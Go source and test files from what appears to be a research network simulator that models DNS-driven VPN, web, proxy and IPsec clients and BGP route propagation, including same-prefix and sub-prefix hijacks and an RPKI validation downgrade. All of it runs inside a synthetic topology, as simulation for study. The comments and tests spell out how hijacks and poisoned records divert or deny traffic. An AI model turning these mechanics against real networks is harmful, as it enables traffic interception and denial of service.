	seen := map[string]bool{}
	for _, v := range apps.Victims() {
		if seen[v.Key] {
			t.Fatalf("duplicate victim key %q", v.Key)
		}
		seen[v.Key] = true
		got, ok := apps.VictimByKey(v.Key)
		if !ok || got.DemoName != v.DemoName {
			t.Fatalf("VictimByKey(%q) = %+v, %v", v.Key, got, ok)
		}
		if rrs, _ := zone.Lookup(v.QName, dnswire.TypeA); len(rrs) == 0 {
			t.Fatalf("victim %q QName %q has no A record in the victim zone", v.Key, v.QName)
		}
	}
	if _, ok := apps.VictimByKey("no-such-victim"); ok {
		t.Fatal("VictimByKey invented a victim")
	}
}
