package apps

import (
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
)

// VPNPort serves OpenVPN/IKE handshakes (folded to one TCP port; the
// transport difference is immaterial to the DNS behaviour).
const VPNPort = 1194

// VPNServer answers tunnel handshakes with its identity.
type VPNServer struct {
	Host    *netsim.Host
	Ident   Identity
	Tunnels uint64
}

// NewVPNServer binds a VPN endpoint on host.
func NewVPNServer(host *netsim.Host, ident Identity) *VPNServer {
	vs := &VPNServer{Host: host, Ident: ident}
	host.BindTCP(VPNPort, func(_ netip.Addr, req []byte) []byte {
		vs.Tunnels++
		return []byte(fmt.Sprintf("ident=%s/%s", vs.Ident.Subject, vs.Ident.Issuer))
	})
	return vs
}

// VPNClient connects to a configured gateway name (Table 1: query
// name comes from config, so the attacker must wait for or predict
// connection attempts). Certificate verification means poisoning
// yields DoS — "DoS: no VPN access" — not interception.
type VPNClient struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	Gateway      string
	Connected    uint64
	Failures     uint64
}

// Connect attempts to bring the tunnel up.
func (vc *VPNClient) Connect(cb func(Outcome)) {
	gw := dnswire.CanonicalName(vc.Gateway)
	lookupA(vc.Host, vc.ResolverAddr, gw, func(addr netip.Addr, err error) {
		if err != nil {
			vc.Failures++
			cb(OutcomeDoS)
			return
		}
		vc.Host.CallTCP(addr, VPNPort, []byte("ike-init"), func(resp []byte) {
			ident, ok := parseIdent(resp)
			if !ok || ident.VerifyFor(gw) != nil {
				vc.Failures++
				cb(OutcomeDoS)
				return
			}
			vc.Connected++
			cb(OutcomeOK)
		})
	})
}

// OpportunisticIPsec looks up IPSECKEY records to encrypt traffic to a
// peer (Table 1's "IKE Opportunistic Enc." row). The gateway and key
// come straight from DNS: a poisoned IPSECKEY silently redirects the
// "encrypted" traffic to the attacker — "Hijack: eavesdropping".
type OpportunisticIPsec struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	Established  uint64
}

// PeerConfig is the tunnel parameters DNS provided.
type PeerConfig struct {
	Gateway netip.Addr
	Key     []byte
}

// Discover fetches the IPSECKEY policy for peer.
func (oi *OpportunisticIPsec) Discover(peer string, cb func(PeerConfig, error)) {
	resolver.StubLookup(oi.Host, oi.ResolverAddr, peer, dnswire.TypeIPSECKEY, 8*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil || len(rrs) == 0 {
				cb(PeerConfig{}, fmt.Errorf("apps: no IPSECKEY for %s: %w", peer, err))
				return
			}
			k, ok := rrs[0].Data.(*dnswire.IPSECKEYData)
			if !ok || k.GatewayType != 1 {
				cb(PeerConfig{}, fmt.Errorf("apps: unsupported IPSECKEY for %s", peer))
				return
			}
			oi.Established++
			cb(PeerConfig{Gateway: k.GatewayIP, Key: k.PublicKey}, nil)
		})
}
