package apps

import (
	"fmt"
	"net/netip"
	"strings"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
)

// HTTPPort is the web port (the simulator folds HTTP and HTTPS into
// one port; TLS is modelled by the Identity check).
const HTTPPort = 80

// WebServer serves named pages and presents an Identity.
type WebServer struct {
	Host  *netsim.Host
	Ident Identity
	Pages map[string]string
	Hits  uint64
}

// NewWebServer binds a web service on host.
func NewWebServer(host *netsim.Host, ident Identity) *WebServer {
	ws := &WebServer{Host: host, Ident: ident, Pages: map[string]string{}}
	host.BindTCP(HTTPPort, func(_ netip.Addr, req []byte) []byte {
		ws.Hits++
		path := strings.TrimSpace(string(req))
		body, ok := ws.Pages[path]
		if !ok {
			body = "404"
		}
		return []byte(fmt.Sprintf("ident=%s/%s\n%s", ws.Ident.Subject, ws.Ident.Issuer, body))
	})
	return ws
}

// WebClient fetches pages by hostname through a resolver.
type WebClient struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	// VerifyTLS requires the server identity to check out (HTTPS);
	// plain HTTP clients set it false.
	VerifyTLS bool
}

// FetchResult is the outcome of one page fetch.
type FetchResult struct {
	Err        error
	Body       string
	ServerAddr netip.Addr
	Ident      Identity
	// Intercepted reports whether the endpoint was not operated by the
	// genuine site (determined by the caller comparing ServerAddr).
}

// Get resolves name, connects, and (optionally) verifies the identity.
func (wc *WebClient) Get(name, path string, cb func(FetchResult)) {
	name = dnswire.CanonicalName(name)
	lookupA(wc.Host, wc.ResolverAddr, name, func(addr netip.Addr, err error) {
		if err != nil {
			cb(FetchResult{Err: fmt.Errorf("apps: resolving %s: %w", name, err)})
			return
		}
		wc.Host.CallTCP(addr, HTTPPort, []byte(path), func(resp []byte) {
			if resp == nil {
				cb(FetchResult{Err: fmt.Errorf("apps: %s unreachable", addr), ServerAddr: addr})
				return
			}
			res := FetchResult{ServerAddr: addr}
			lines := strings.SplitN(string(resp), "\n", 2)
			if len(lines) == 2 && strings.HasPrefix(lines[0], "ident=") {
				parts := strings.SplitN(strings.TrimPrefix(lines[0], "ident="), "/", 2)
				if len(parts) == 2 {
					res.Ident = Identity{Subject: parts[0], Issuer: parts[1]}
				}
				res.Body = lines[1]
			} else {
				res.Body = string(resp)
			}
			if wc.VerifyTLS {
				if err := res.Ident.VerifyFor(name); err != nil {
					res.Err = err
				}
			}
			cb(res)
		})
	})
}

// Proxy is an HTTP/SOCKS-style forward proxy: clients hand it a
// hostname and it resolves via ITS resolver — a direct query trigger
// for whoever can reach the proxy (Table 1's "Proxies" row).
type Proxy struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	Requests     uint64
}

// ProxyPort is the proxy service port.
const ProxyPort = 3128

// NewProxy binds a proxy on host. The simulator's TCP model is a
// synchronous request/response call, so the proxied fetch itself goes
// through Fetch (which resolves asynchronously on the proxy's host);
// the TCP endpoint acknowledges requests for liveness probing.
func NewProxy(host *netsim.Host, resolverAddr netip.Addr) *Proxy {
	p := &Proxy{Host: host, ResolverAddr: resolverAddr}
	host.BindTCP(ProxyPort, func(_ netip.Addr, req []byte) []byte {
		return []byte("202 accepted")
	})
	return p
}

// Fetch performs a proxied fetch: the PROXY's host resolves the name
// (triggering a query at the proxy's resolver) and fetches the page
// for the client.
func (p *Proxy) Fetch(name, path string, cb func(FetchResult)) {
	p.Requests++
	wc := &WebClient{Host: p.Host, ResolverAddr: p.ResolverAddr}
	wc.Get(name, path, cb)
}
