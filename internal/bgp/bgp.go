// Package bgp implements the inter-domain routing substrate: an
// AS-level topology with customer/provider/peer relationships, BGP
// announcement propagation under the Gao–Rexford policy model, route
// selection, sub-prefix and same-prefix hijacks, and RPKI route-origin
// validation (ROV) filtering.
//
// This re-implements the simulator methodology the paper uses for its
// same-prefix hijack evaluation (§5.1.2: Gao–Rexford compliant paths
// over a CAIDA-like topology, attacker wins ~80% of random pairs) and
// provides the forwarding decisions the packet-level network simulator
// consults for every datagram.
package bgp

import (
	"fmt"
	"net/netip"
	"sort"
)

// ASN is an autonomous-system number.
type ASN uint32

// Relationship between two ASes, from the perspective of the first.
type Relationship int8

// Relationship values.
const (
	RelCustomer Relationship = iota // the neighbour is my customer
	RelPeer
	RelProvider // the neighbour is my provider
)

// RouteKind records how a route was learned, which drives Gao–Rexford
// preference (customer > peer > provider).
type RouteKind int8

// RouteKind values, ordered by decreasing preference.
const (
	KindOrigin RouteKind = iota
	KindCustomer
	KindPeer
	KindProvider
)

func (k RouteKind) String() string {
	switch k {
	case KindOrigin:
		return "origin"
	case KindCustomer:
		return "customer"
	case KindPeer:
		return "peer"
	case KindProvider:
		return "provider"
	}
	return "?"
}

// AS is one autonomous system.
type AS struct {
	ASN       ASN
	Tier      int  // 1 = tier-1 clique, 2 = transit, 3 = stub
	ROV       bool // enforces route-origin validation
	providers []ASN
	customers []ASN
	peers     []ASN
}

// Providers returns the AS's provider ASNs.
func (a *AS) Providers() []ASN { return a.providers }

// Customers returns the AS's customer ASNs.
func (a *AS) Customers() []ASN { return a.customers }

// Peers returns the AS's peer ASNs.
func (a *AS) Peers() []ASN { return a.peers }

// Topology is an AS-level graph.
type Topology struct {
	ases map[ASN]*AS
}

// NewTopology returns an empty topology.
func NewTopology() *Topology { return &Topology{ases: make(map[ASN]*AS)} }

// AddAS creates an AS; it panics on duplicates (topology construction
// bugs should fail loudly).
func (t *Topology) AddAS(asn ASN, tier int) *AS {
	if _, ok := t.ases[asn]; ok {
		panic(fmt.Sprintf("bgp: duplicate AS %d", asn))
	}
	a := &AS{ASN: asn, Tier: tier}
	t.ases[asn] = a
	return a
}

// AS returns the AS with the given number, or nil.
func (t *Topology) AS(asn ASN) *AS { return t.ases[asn] }

// Len returns the number of ASes.
func (t *Topology) Len() int { return len(t.ases) }

// ASNs returns all AS numbers in ascending order.
func (t *Topology) ASNs() []ASN {
	out := make([]ASN, 0, len(t.ases))
	for a := range t.ases {
		out = append(out, a)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// AddProviderCustomer records that provider sells transit to customer.
func (t *Topology) AddProviderCustomer(provider, customer ASN) {
	p, c := t.ases[provider], t.ases[customer]
	if p == nil || c == nil {
		panic(fmt.Sprintf("bgp: link %d->%d references unknown AS", provider, customer))
	}
	p.customers = append(p.customers, customer)
	c.providers = append(c.providers, provider)
}

// AddPeering records a settlement-free peering between a and b.
func (t *Topology) AddPeering(a, b ASN) {
	pa, pb := t.ases[a], t.ases[b]
	if pa == nil || pb == nil {
		panic(fmt.Sprintf("bgp: peering %d--%d references unknown AS", a, b))
	}
	pa.peers = append(pa.peers, b)
	pb.peers = append(pb.peers, a)
}

// Announcement is one BGP origination.
type Announcement struct {
	Prefix netip.Prefix
	Origin ASN
}

// Route is the route an AS selected toward a prefix.
type Route struct {
	Origin  ASN
	NextHop ASN // neighbour the route was learned from (== self for origin)
	Kind    RouteKind
	PathLen int // AS-path length including origin
}

// better reports whether r should be preferred over cur under
// Gao–Rexford + shortest-path + lowest-next-hop tiebreak.
func (r Route) better(cur *Route) bool {
	if cur == nil {
		return true
	}
	if r.Kind != cur.Kind {
		return r.Kind < cur.Kind
	}
	if r.PathLen != cur.PathLen {
		return r.PathLen < cur.PathLen
	}
	return r.NextHop < cur.NextHop
}

// ROA is a Route Origin Authorization.
type ROA struct {
	Prefix    netip.Prefix
	Origin    ASN
	MaxLength int
}

// Validity is the RPKI validation state of an announcement.
type Validity int8

// Validity values (RFC 6811).
const (
	ValidityUnknown Validity = iota
	ValidityValid
	ValidityInvalid
)

func (v Validity) String() string {
	switch v {
	case ValidityValid:
		return "valid"
	case ValidityInvalid:
		return "invalid"
	}
	return "unknown"
}

// Validate returns the RPKI validity of ann against a ROA set. An
// empty or nil ROA set — e.g. after the paper's RPKI cache-poisoning
// downgrade leaves the relying party without data — yields unknown for
// everything, which ROV-enforcing routers treat as acceptable.
func Validate(ann Announcement, roas []ROA) Validity {
	covered := false
	for _, roa := range roas {
		if !roa.Prefix.Overlaps(ann.Prefix) || roa.Prefix.Bits() > ann.Prefix.Bits() {
			continue // ROA does not cover the announced prefix
		}
		if !roa.Prefix.Contains(ann.Prefix.Addr()) {
			continue
		}
		covered = true
		maxLen := roa.MaxLength
		if maxLen == 0 {
			maxLen = roa.Prefix.Bits()
		}
		if roa.Origin == ann.Origin && ann.Prefix.Bits() <= maxLen {
			return ValidityValid
		}
	}
	if covered {
		return ValidityInvalid
	}
	return ValidityUnknown
}

// ROAView supplies the ROA set a given AS's relying party currently
// holds. The RPKI downgrade attack is modelled by this function
// returning nil for the victim AS.
type ROAView func(asn ASN) []ROA

// Propagate floods the announcements for one prefix through the
// topology under Gao–Rexford export rules and returns each AS's
// selected route. Multiple announcements model a hijack: the victim
// and the attacker originate the same prefix, and each AS converges on
// whichever origin its policy prefers. roaView may be nil (no ROV
// anywhere).
//
// Export rules: routes learned from customers (or originated) are
// exported to all neighbours; routes learned from peers or providers
// are exported only to customers. Selection: customer > peer >
// provider, then shortest path, then lowest next-hop ASN.
func (t *Topology) Propagate(anns []Announcement, roaView ROAView) map[ASN]Route {
	best := make(map[ASN]Route, len(t.ases))
	has := make(map[ASN]bool, len(t.ases))

	accept := func(asn ASN, ann Announcement) bool {
		a := t.ases[asn]
		if a == nil || !a.ROV || roaView == nil {
			return true
		}
		return Validate(ann, roaView(asn)) != ValidityInvalid
	}

	// Per-origin BFS in three Gao–Rexford phases; candidate routes are
	// merged through Route.better so multiple origins compete fairly.
	type cand struct {
		asn   ASN
		route Route
		ann   Announcement
	}
	consider := func(c cand) bool {
		if !accept(c.asn, c.ann) {
			return false
		}
		cur, ok := best[c.asn]
		var curp *Route
		if ok {
			curp = &cur
		}
		if c.route.better(curp) {
			best[c.asn] = c.route
			has[c.asn] = true
			return true
		}
		return false
	}

	// Phase 0: origins install their own routes.
	queue := make([]ASN, 0, len(anns))
	for _, ann := range anns {
		if t.ases[ann.Origin] == nil {
			continue
		}
		if consider(cand{ann.Origin, Route{Origin: ann.Origin, NextHop: ann.Origin, Kind: KindOrigin, PathLen: 1}, ann}) {
			queue = append(queue, ann.Origin)
		}
	}
	annOf := func(origin ASN) Announcement {
		for _, ann := range anns {
			if ann.Origin == origin {
				return ann
			}
		}
		return Announcement{}
	}

	// Phase 1: customer routes climb provider links (BFS by path length).
	for len(queue) > 0 {
		var next []ASN
		for _, asn := range queue {
			r := best[asn]
			if r.Kind != KindOrigin && r.Kind != KindCustomer {
				continue
			}
			for _, p := range t.ases[asn].providers {
				nr := Route{Origin: r.Origin, NextHop: asn, Kind: KindCustomer, PathLen: r.PathLen + 1}
				if consider(cand{p, nr, annOf(r.Origin)}) {
					next = append(next, p)
				}
			}
		}
		queue = next
	}

	// Phase 2: ASes with origin/customer routes export to peers.
	for asn := range has {
		r := best[asn]
		if r.Kind != KindOrigin && r.Kind != KindCustomer {
			continue
		}
		for _, p := range t.ases[asn].peers {
			nr := Route{Origin: r.Origin, NextHop: asn, Kind: KindPeer, PathLen: r.PathLen + 1}
			consider(cand{p, nr, annOf(r.Origin)})
		}
	}

	// Phase 3: everything flows down customer links (BFS).
	queue = queue[:0]
	for asn := range has {
		queue = append(queue, asn)
	}
	sort.Slice(queue, func(i, j int) bool { return best[queue[i]].PathLen < best[queue[j]].PathLen })
	for len(queue) > 0 {
		var next []ASN
		for _, asn := range queue {
			r := best[asn]
			for _, c := range t.ases[asn].customers {
				nr := Route{Origin: r.Origin, NextHop: asn, Kind: KindProvider, PathLen: r.PathLen + 1}
				if consider(cand{c, nr, annOf(r.Origin)}) {
					next = append(next, c)
				}
			}
		}
		queue = next
	}
	return best
}
