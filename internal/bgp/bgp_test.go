package bgp

import (
	"math/rand"
	"net/netip"
	"testing"
)

// diamond builds:   1 --- 2   (tier-1 peering)
//
//	|     |
//	3     4   (customers of 1 and 2)
//	 \   /
//	   5      (customer of 3 and 4)
func diamond(t *testing.T) *Topology {
	t.Helper()
	top := NewTopology()
	for i := ASN(1); i <= 5; i++ {
		tier := 3
		if i <= 2 {
			tier = 1
		} else if i <= 4 {
			tier = 2
		}
		top.AddAS(i, tier)
	}
	top.AddPeering(1, 2)
	top.AddProviderCustomer(1, 3)
	top.AddProviderCustomer(2, 4)
	top.AddProviderCustomer(3, 5)
	top.AddProviderCustomer(4, 5)
	return top
}

func TestPropagateReachesEveryone(t *testing.T) {
	top := diamond(t)
	p := netip.MustParsePrefix("10.5.0.0/22")
	routes := top.Propagate([]Announcement{{Prefix: p, Origin: 5}}, nil)
	if len(routes) != 5 {
		t.Fatalf("only %d ASes have routes, want 5", len(routes))
	}
	if routes[5].Kind != KindOrigin {
		t.Fatalf("origin's own route kind = %v", routes[5].Kind)
	}
	// 3 and 4 learn from their customer 5.
	if routes[3].Kind != KindCustomer || routes[3].NextHop != 5 {
		t.Fatalf("AS3 route = %+v", routes[3])
	}
	// 1 learns from customer 3; 2 from customer 4.
	if routes[1].Kind != KindCustomer || routes[1].NextHop != 3 {
		t.Fatalf("AS1 route = %+v", routes[1])
	}
	if routes[2].Kind != KindCustomer || routes[2].NextHop != 4 {
		t.Fatalf("AS2 route = %+v", routes[2])
	}
}

func TestGaoRexfordPreference(t *testing.T) {
	// AS 1 can reach the origin through a customer (long) or a peer
	// (short); customer must win despite the longer path.
	top := NewTopology()
	for i := ASN(1); i <= 5; i++ {
		top.AddAS(i, 2)
	}
	// 1's customer chain: 1 -> 3 -> 4 -> 5(origin). 1's peer 2 is
	// directly 5's provider.
	top.AddProviderCustomer(1, 3)
	top.AddProviderCustomer(3, 4)
	top.AddProviderCustomer(4, 5)
	top.AddPeering(1, 2)
	top.AddProviderCustomer(2, 5)
	routes := top.Propagate([]Announcement{{Prefix: netip.MustParsePrefix("10.0.0.0/22"), Origin: 5}}, nil)
	r := routes[1]
	if r.Kind != KindCustomer || r.NextHop != 3 {
		t.Fatalf("AS1 chose %+v; Gao-Rexford requires the customer route via 3", r)
	}
}

func TestValleyFreeNoPeerToPeerReexport(t *testing.T) {
	// origin 3 is customer of 1; 1 peers with 2; 2 peers with 4.
	// 4 must NOT have a route (peer routes are not re-exported to peers).
	top := NewTopology()
	for i := ASN(1); i <= 4; i++ {
		top.AddAS(i, 2)
	}
	top.AddProviderCustomer(1, 3)
	top.AddPeering(1, 2)
	top.AddPeering(2, 4)
	routes := top.Propagate([]Announcement{{Prefix: netip.MustParsePrefix("10.0.0.0/22"), Origin: 3}}, nil)
	if _, ok := routes[4]; ok {
		t.Fatalf("AS4 learned a valley route: %+v", routes[4])
	}
	if routes[2].Kind != KindPeer {
		t.Fatalf("AS2 should have a peer route, got %+v", routes[2])
	}
}

func TestProviderRoutePropagatesDown(t *testing.T) {
	// origin 3 under provider 1; 1 peers 2; 2 has customer 4: 4 gets a
	// provider route (peer route exported down is allowed).
	top := NewTopology()
	for i := ASN(1); i <= 4; i++ {
		top.AddAS(i, 2)
	}
	top.AddProviderCustomer(1, 3)
	top.AddPeering(1, 2)
	top.AddProviderCustomer(2, 4)
	routes := top.Propagate([]Announcement{{Prefix: netip.MustParsePrefix("10.0.0.0/22"), Origin: 3}}, nil)
	if routes[4].Kind != KindProvider || routes[4].NextHop != 2 {
		t.Fatalf("AS4 route = %+v, want provider via 2", routes[4])
	}
}

func TestSamePrefixHijackSplitsInternet(t *testing.T) {
	top := diamond(t)
	p := netip.MustParsePrefix("10.5.0.0/22")
	// Victim 5 and attacker 2 (a tier-1) announce the same prefix.
	routes := top.Propagate([]Announcement{{Prefix: p, Origin: 5}, {Prefix: p, Origin: 2}}, nil)
	// AS 4 is 2's customer... 4 hears origin 5 from its customer 5
	// (customer route) and from provider 2: customer wins.
	if routes[4].Origin != 5 {
		t.Fatalf("AS4 diverted: %+v", routes[4])
	}
	// AS 1 hears customer route via 3 (origin 5, len 3) vs peer route
	// via 2 (origin 2, len 2): customer beats peer.
	if routes[1].Origin != 5 {
		t.Fatalf("AS1 diverted: %+v", routes[1])
	}
}

func TestROVRejectsInvalid(t *testing.T) {
	top := diamond(t)
	p := netip.MustParsePrefix("10.5.0.0/22")
	sub := netip.MustParsePrefix("10.5.0.0/24")
	roas := []ROA{{Prefix: p, Origin: 5, MaxLength: 22}}
	for _, asn := range top.ASNs() {
		top.AS(asn).ROV = true
	}
	view := func(ASN) []ROA { return roas }
	routes := top.Propagate([]Announcement{{Prefix: sub, Origin: 2}}, view)
	if len(routes) != 0 {
		t.Fatalf("ROV-protected hijack still got %d routes", len(routes))
	}
	// With an empty ROA view (the RPKI downgrade), everyone accepts.
	routes = top.Propagate([]Announcement{{Prefix: sub, Origin: 2}}, func(ASN) []ROA { return nil })
	if len(routes) != 5 {
		t.Fatalf("downgraded ROV should accept hijack: %d routes", len(routes))
	}
}

func TestValidate(t *testing.T) {
	p22 := netip.MustParsePrefix("10.5.0.0/22")
	p24 := netip.MustParsePrefix("10.5.1.0/24")
	other := netip.MustParsePrefix("99.0.0.0/24")
	roas := []ROA{{Prefix: p22, Origin: 5, MaxLength: 22}}
	cases := []struct {
		ann  Announcement
		want Validity
	}{
		{Announcement{p22, 5}, ValidityValid},
		{Announcement{p22, 6}, ValidityInvalid},   // wrong origin
		{Announcement{p24, 5}, ValidityInvalid},   // too specific for maxlen
		{Announcement{other, 6}, ValidityUnknown}, // uncovered
	}
	for _, c := range cases {
		if got := Validate(c.ann, roas); got != c.want {
			t.Errorf("Validate(%v) = %v, want %v", c.ann, got, c.want)
		}
	}
	if Validate(Announcement{p22, 5}, nil) != ValidityUnknown {
		t.Error("empty ROA set must yield unknown")
	}
	// MaxLength defaulting to prefix length.
	roas2 := []ROA{{Prefix: p22, Origin: 5}}
	if Validate(Announcement{p24, 5}, roas2) != ValidityInvalid {
		t.Error("maxlen default should reject more-specifics")
	}
}

func TestRIBSubPrefixHijackWinsByLPM(t *testing.T) {
	top := diamond(t)
	rib := NewRIB(top, nil)
	victim22 := netip.MustParsePrefix("10.5.0.0/22")
	if !rib.Announce(victim22, 5) {
		t.Fatal("victim announcement rejected")
	}
	ip := netip.MustParseAddr("10.5.1.7")
	if origin, _ := rib.Resolve(1, ip); origin != 5 {
		t.Fatalf("pre-hijack origin = %d", origin)
	}
	// Attacker AS2 announces the covering /24.
	if !rib.Announce(netip.MustParsePrefix("10.5.1.0/24"), 2) {
		t.Fatal("sub-prefix announcement rejected")
	}
	for _, from := range []ASN{1, 3, 4, 5} {
		if origin, _ := rib.Resolve(from, ip); origin != 2 {
			t.Fatalf("AS%d not diverted by sub-prefix hijack (origin %d)", from, origin)
		}
	}
	// An address outside the /24 is unaffected.
	if origin, _ := rib.Resolve(1, netip.MustParseAddr("10.5.2.1")); origin != 5 {
		t.Fatal("hijack affected addresses outside the sub-prefix")
	}
	// Withdraw heals.
	rib.Withdraw(netip.MustParsePrefix("10.5.1.0/24"), 2)
	if origin, _ := rib.Resolve(1, ip); origin != 5 {
		t.Fatal("withdraw did not heal routing")
	}
}

func TestRIBFiltersMoreSpecificThan24(t *testing.T) {
	top := diamond(t)
	rib := NewRIB(top, nil)
	rib.Announce(netip.MustParsePrefix("10.5.0.0/24"), 5)
	if rib.Announce(netip.MustParsePrefix("10.5.0.0/25"), 2) {
		t.Fatal("/25 announcement accepted despite filter")
	}
	if origin, _ := rib.Resolve(1, netip.MustParseAddr("10.5.0.9")); origin != 5 {
		t.Fatal("victim /24 lost to filtered /25")
	}
}

func TestRIBROVDowngrade(t *testing.T) {
	top := diamond(t)
	for _, asn := range top.ASNs() {
		top.AS(asn).ROV = true
	}
	victim22 := netip.MustParsePrefix("10.5.0.0/22")
	roas := []ROA{{Prefix: victim22, Origin: 5, MaxLength: 24}}
	rib := NewRIB(top, func(ASN) []ROA { return roas })
	rib.Announce(victim22, 5)
	sub := netip.MustParsePrefix("10.5.1.0/24")
	rib.Announce(sub, 2)
	ip := netip.MustParseAddr("10.5.1.7")
	if origin, _ := rib.Resolve(1, ip); origin != 5 {
		t.Fatalf("ROV should have protected the victim, origin=%d", origin)
	}
	// RPKI downgrade: relying parties lose their ROA data.
	rib.SetROAView(func(ASN) []ROA { return nil })
	if origin, _ := rib.Resolve(1, ip); origin != 2 {
		t.Fatalf("after downgrade hijack should win, origin=%d", origin)
	}
}

func TestCoveringAnnouncement(t *testing.T) {
	top := diamond(t)
	rib := NewRIB(top, nil)
	rib.Announce(netip.MustParsePrefix("10.5.0.0/22"), 5)
	p, ok := rib.CoveringAnnouncement(netip.MustParseAddr("10.5.3.1"))
	if !ok || p.Bits() != 22 {
		t.Fatalf("covering = %v %v", p, ok)
	}
	if _, ok := rib.CoveringAnnouncement(netip.MustParseAddr("99.9.9.9")); ok {
		t.Fatal("found covering announcement for unannounced space")
	}
}

func TestGenerateTopologyShape(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	top := Generate(GenConfig{Tier1: 5, Transit: 20, Stubs: 100}, rng)
	if top.Len() != 125 {
		t.Fatalf("topology has %d ASes, want 125", top.Len())
	}
	// Every stub must have at least one provider and full reachability
	// from any origin.
	p := netip.MustParsePrefix("10.0.0.0/22")
	routes := top.Propagate([]Announcement{{Prefix: p, Origin: 60}}, nil)
	if len(routes) != top.Len() {
		t.Fatalf("only %d/%d ASes reach a stub origin", len(routes), top.Len())
	}
	// Tier-1s form a clique.
	for i := ASN(1); i <= 5; i++ {
		if len(top.AS(i).Peers()) < 4 {
			t.Fatalf("tier-1 %d has %d peers", i, len(top.AS(i).Peers()))
		}
	}
}

func TestSamePrefixHijackRateIsHighForRandomPairs(t *testing.T) {
	// Reproduces §5.1.2's shape: attacker intercepts the majority of
	// observer ASes over random (victim, attacker) pairs (~80% in the
	// paper).
	rng := rand.New(rand.NewSource(2))
	top := Generate(GenConfig{}, rng)
	asns := top.ASNs()
	p := netip.MustParsePrefix("10.0.0.0/22")
	var total float64
	const trials = 50
	for i := 0; i < trials; i++ {
		v := asns[rng.Intn(len(asns))]
		a := asns[rng.Intn(len(asns))]
		if v == a {
			continue
		}
		total += SamePrefixHijackWins(top, p, v, a, asns)
	}
	avg := total / trials
	if avg < 0.25 || avg > 0.95 {
		t.Fatalf("average same-prefix interception %.2f outside plausible band", avg)
	}
}

func TestPrefixForDeterministicAndValid(t *testing.T) {
	for asn := ASN(1); asn < 500; asn++ {
		p := PrefixFor(asn, 22)
		if p != PrefixFor(asn, 22) {
			t.Fatal("PrefixFor not deterministic")
		}
		if p.Bits() != 22 {
			t.Fatalf("PrefixFor bits = %d", p.Bits())
		}
	}
}
