package bgp

import (
	"fmt"
	"math/rand"
	"net/netip"
)

// GenConfig controls synthetic Internet-like topology generation:
// a tier-1 clique at the top, a transit layer beneath it, and stub
// ASes at the edge — the standard structure inferred from CAIDA
// AS-relationship data, which the paper's same-prefix simulation
// (§5.1.2) runs over.
type GenConfig struct {
	Tier1   int // fully meshed clique, default 8
	Transit int // mid-tier providers, default 40
	Stubs   int // edge ASes, default 400
	// ProvidersPerStub / PerTransit: how many upstreams each picks.
	ProvidersPerStub    int     // default 2
	ProvidersPerTransit int     // default 2
	PeeringProb         float64 // probability two transits peer, default 0.05
	ROVFraction         float64 // fraction of ASes enforcing ROV, default 0
}

func (c *GenConfig) fill() {
	if c.Tier1 == 0 {
		c.Tier1 = 8
	}
	if c.Transit == 0 {
		c.Transit = 40
	}
	if c.Stubs == 0 {
		c.Stubs = 400
	}
	if c.ProvidersPerStub == 0 {
		c.ProvidersPerStub = 2
	}
	if c.ProvidersPerTransit == 0 {
		c.ProvidersPerTransit = 2
	}
	if c.PeeringProb == 0 {
		c.PeeringProb = 0.05
	}
}

// Generate builds a topology from cfg using rng. AS numbers are
// assigned 1..N with tier-1 first, then transit, then stubs.
func Generate(cfg GenConfig, rng *rand.Rand) *Topology {
	cfg.fill()
	t := NewTopology()
	next := ASN(1)
	var tier1, transit, stubs []ASN
	for i := 0; i < cfg.Tier1; i++ {
		t.AddAS(next, 1)
		tier1 = append(tier1, next)
		next++
	}
	for i := 0; i < cfg.Transit; i++ {
		t.AddAS(next, 2)
		transit = append(transit, next)
		next++
	}
	for i := 0; i < cfg.Stubs; i++ {
		t.AddAS(next, 3)
		stubs = append(stubs, next)
		next++
	}
	// Tier-1 clique.
	for i := 0; i < len(tier1); i++ {
		for j := i + 1; j < len(tier1); j++ {
			t.AddPeering(tier1[i], tier1[j])
		}
	}
	pick := func(pool []ASN, n int) []ASN {
		perm := rng.Perm(len(pool))
		if n > len(pool) {
			n = len(pool)
		}
		out := make([]ASN, n)
		for i := 0; i < n; i++ {
			out[i] = pool[perm[i]]
		}
		return out
	}
	for _, a := range transit {
		for _, p := range pick(tier1, cfg.ProvidersPerTransit) {
			t.AddProviderCustomer(p, a)
		}
	}
	for i, a := range transit {
		for j := i + 1; j < len(transit); j++ {
			if rng.Float64() < cfg.PeeringProb {
				t.AddPeering(a, transit[j])
			}
		}
	}
	for _, a := range stubs {
		// Mostly transit upstreams, occasionally a tier-1 direct.
		pool := transit
		if rng.Float64() < 0.1 {
			pool = tier1
		}
		for _, p := range pick(pool, cfg.ProvidersPerStub) {
			t.AddProviderCustomer(p, a)
		}
	}
	if cfg.ROVFraction > 0 {
		for _, asn := range t.ASNs() {
			if rng.Float64() < cfg.ROVFraction {
				t.AS(asn).ROV = true
			}
		}
	}
	return t
}

// PrefixFor deterministically assigns AS n a prefix of the given
// length inside 10.0.0.0/8-style space spread across the IPv4 range
// (the simulator does not care about RFC 1918 semantics).
func PrefixFor(asn ASN, bits int) netip.Prefix {
	// Spread ASes across 1.0.0.0 .. 223.x: 24-bit space keyed by ASN.
	v := uint32(asn)
	a := byte(1 + (v*37)%222)
	b := byte((v * 101) % 256)
	c := byte((v * 17) % 256)
	addr := netip.AddrFrom4([4]byte{a, b, c, 0})
	p, err := addr.Prefix(bits)
	if err != nil {
		panic(fmt.Sprintf("bgp: PrefixFor(%d,%d): %v", asn, bits, err))
	}
	return p
}

// SamePrefixHijackWins simulates a same-prefix hijack: victim and
// attacker both originate prefix; it returns the fraction of the given
// observer ASes whose selected route points at the attacker. This is
// the paper's §5.1.2 experiment (result there: ~80% of random pairs
// interceptable).
func SamePrefixHijackWins(t *Topology, prefix netip.Prefix, victim, attacker ASN, observers []ASN) float64 {
	routes := t.Propagate([]Announcement{
		{Prefix: prefix, Origin: victim},
		{Prefix: prefix, Origin: attacker},
	}, nil)
	won := 0
	total := 0
